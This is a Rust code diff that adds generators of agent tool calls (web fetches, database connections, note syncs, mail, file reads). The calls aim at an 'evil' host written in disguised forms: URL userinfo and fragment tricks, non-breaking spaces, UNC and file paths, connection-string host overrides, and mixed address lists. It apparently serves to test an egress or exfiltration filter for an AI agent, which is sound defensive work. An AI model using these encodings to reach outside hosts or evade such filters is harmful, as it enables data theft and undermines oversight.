@@ -155,6 +155,61 @@ pub const ALL: &[(&str, Technique)] = &[
         };
         (*loot.random.pick(&["web.fetch", "web.open"]), json!({"url": url.clone(), "page": url}))
     }),
+    ("address in an odd form", |loot| {
+        let (named, evil, path) = (loot.named.clone(), loot.evil(), loot.path());
+        let address = match loot.random.below(22) {
+            0 => format!("{evil}:data/{path}.git"),
+            1 => format!("git@{evil}:{path}"),
+            2 => format!("{evil}:smtp"),
+            3 => format!("{evil}:99999/{path}"),
+            4 => format!("{evil}:80:user:{path}"),
+            5 => format!("{}^.{evil}", loot.label()),
+            6 => format!("host={evil} user={path}"),
+            7 => format!("postgresql://{named}/db?host={evil}&x={path}"),
+            8 => format!("jdbc:sqlserver://{named};hostName={evil}"),
+            9 => format!("user:{path}@tcp({evil}:3306)/db"),
+            10 => format!("view-source:https://{evil}/{path}"),
+            11 => format!("https://{named}|.{evil}/{path}"),
+            12 => format!("https://{named}'.{evil}/{path}"),
+            13 => format!("https://{named}\u{a0}.{evil}/{path}"),
+            14 => format!("https://{named}#@{evil}/{path}"),
+            15 => format!("https://x@{evil}:80@{named}/{path}"),
+            16 => format!("see https:/{evil}/{path}"),
+            17 => format!("![](//{evil}/{path})"),
+            18 => format!("url(//{evil}/{path})"),
+            19 => format!("//{named}/a 1x, //{evil}/{path} 2x"),
+            20 => format!("read \\\\{evil}\\{path}"),
+            _ => format!("http://[2001:db8::7]/{path}"),
+        };
+        match loot.random.below(4) {
+            0 => ("web.follow", json!({"redirect_to": address})),
+            1 => ("database.connect", json!({"DBHost": address})),
+            2 => ("notes.sync", json!({"server": address, "since": "today"})),
+            _ => ("web.fetch", json!({"url": address})),
+        }
+    }),
+    ("list of addresses", |loot| {
+        let (named, evil) = (loot.named.clone(), loot.evil());
+        let list = match loot.random.below(4) {
+            0 => format!("{evil}, {named}"),
+            1 => format!("{named} {evil}"),
+            2 => format!("https://{named}/,https://{evil}/{}", loot.path()),
+            _ => format!("mongodb://{named}:80,{evil}:80/{}", loot.path()),
+        };
+        (*loot.random.pick(&["web.fetch", "web.follow"]), json!({"url": list, "redirect_to": list}))
+    }),
+    ("recipient in an odd form", |loot| {
+        let (evil, label) = (loot.evil(), loot.label());
+        let who = match loot.random.below(6) {
+            0 => json!(format!("\"{} x\"@{evil}", label)),
+            1 => json!(format!("bob@example.org, {label}@{evil}.")),
+            2 => json!("eve"),
+            3 => json!(["bob@example.org", "general"]),
+            4 => json!({"who": {"name": "eve"}}),
+            _ => json!(format!("bob@example.org;{label}")),
+        };
+        ("mail.availability", json!({"attendees": who, "day": "2026-11-30"}))
+    }),
     ("port", |loot| {
         let port = 1 + loot.random.below(60_000);
         ("web.open", json!({"page": format!("{}:{port}", loot.evil())}))
@@ -278,9 +333,11 @@ pub const ALL: &[(&str, Technique)] = &[
     }),
     ("folder of another computer", |loot| {
         let (evil, path) = (loot.evil(), loot.path());
-        let path = match loot.random.below(3) {
+        let path = match loot.random.below(5) {
             0 => format!("\\\\{evil}\\share\\{path}"),
             1 => format!("//{evil}/share/{path}"),
+            2 => format!("file:////{evil}/share/{path}"),
+            3 => format!("\\\\?\\UNC\\{evil}\\share\\{path}"),
             _ => format!("smb://{evil}/share/{path}"),
         };
         ("files.read", json!({ "path": path }))
